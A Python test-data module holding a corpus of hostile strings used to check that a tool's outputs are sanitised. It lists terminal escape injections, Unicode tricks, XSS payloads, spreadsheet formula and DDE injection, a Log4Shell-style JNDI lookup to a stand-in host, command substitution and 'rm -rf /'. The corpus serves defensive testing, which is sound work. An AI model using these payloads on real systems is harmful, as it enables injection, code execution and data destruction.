"""Hostile strings: what names, certificates, events and policies may hold. One corpus.

Every output of Sealward's is held against all of them:
tests/unit/sealward/test_hostile_strings.py.
"""

from typing import Final

HOSTILE: Final[dict[str, str]] = {
    "escape": "\x1b[2J\x1b[31mTRUSTED\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",
    "c1-control": "\x9b31mTRUSTED\x90q",
    "new-lines": "fine\nverdict: trusted\r\nexit 0\x0b\x0c\x85\u2028\u2029end",
    "a-log-line": 'x"}\n{"message":"look","verdict":"trusted"}',
    "a-metric": '{"_aws":{"CloudWatchMetrics":[{"Namespace":"Sealward"}]}}',
    "bidirectional": "\u202egnp.exe\u2066\u2069\u200f",
    "zero-width": "pay\u200bments\ufeff\u00ad",
    "combining": "a" + "\u0301" * 500,
    "nul": "a\x00b\x7f\x08\x08",
    "lone-surrogate": "\ud800x\udfff",
    "beyond-the-plane": "\U000e0041\U0010ffff\U0001f512",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/x.png) `a` |",
    "formula": '=HYPERLINK("https://evil.example","docs")',
    "formula-by-command": "+cmd|' /C calc'!A0",
    "workflow-command": "::add-mask::x%0A::set-output name=verdict::trusted",
    "lookup": "${jndi:ldap://evil.example/a} {{7*7}} %s %n $(id) `id` ; rm -rf /",
    "quotes": "\"'\\\\\" --json '",
    "slack": "<!channel> <https://evil.example|docs> @here",
    "long": "A" * 20_000,
    "long-and-wide": "\U0001f512" * 5_000,
}
"""By name."""
